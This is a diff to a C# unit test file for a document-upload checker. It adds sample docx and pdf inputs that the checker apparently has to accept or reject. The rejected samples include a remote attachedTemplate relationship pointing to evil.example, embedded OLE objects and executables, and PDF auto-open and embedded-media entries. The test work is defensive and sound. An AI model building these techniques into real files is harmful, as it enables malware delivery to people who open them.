@@ -18,6 +18,7 @@ public sealed class FileCheckTests
             { "a.xlsx", Xlsx() },
             { "a.odt", OpenDocument("text") },
             { "a.ods", OpenDocument("spreadsheet") },
+            { "a.docx", Docx(("word/embeddings/Microsoft_Excel_Sheet.xlsx", "x"), ("word/_rels/document.xml.rels", "<Relationships><Relationship Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"https://gov.scot\" TargetMode=\"External\"/></Relationships>")) },
             { "a.csv", Plain("name,day\r\nÅsa,2017-06-22\r\n") },
             { "a.txt", Plain("\uFEFFPlain text, with a tab\tand\nlines.") },
             { "a.png", Picture(SKEncodedImageFormat.Png) },
@@ -53,6 +54,14 @@ public sealed class FileCheckTests
             { "a.docm", Docx() },
             { "a.gif", Plain("GIF89a") },
             { "a.zip", Zip(("a", "b")) },
+            // What fetches, carries or plays something else.
+            { "a.docx", Docx(("word/_rels/settings.xml.rels", "<Relationships><Relationship Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>")) },
+            { "a.docx", Docx(("word/embeddings/oleObject1.bin", "x")) },
+            { "a.docx", Docx(("word/embeddings/a.exe", "MZ")) },
+            { "a.pdf", Pdf(more: "3 0 obj\n<< /Type /Filespec /F (a.exe) /EF << /F 9 0 R >> >>\nendobj") },
+            { "a.pdf", Pdf("/OpenAction << /S /GoToR /F (a) >>") },
+            { "a.pdf", Pdf(more: "3 0 obj\n<< /Subtype /Movie >>\nendobj") },
+            { "a.pdf", Pdf(more: Packed("4 0 << /S /Sound >>")) },
             // Two sorts at once.
             { "a.pdf", [.. Pdf(), .. Docx()] },
             { "a.pdf", [.. Plain("<html>"), .. Pdf()] },
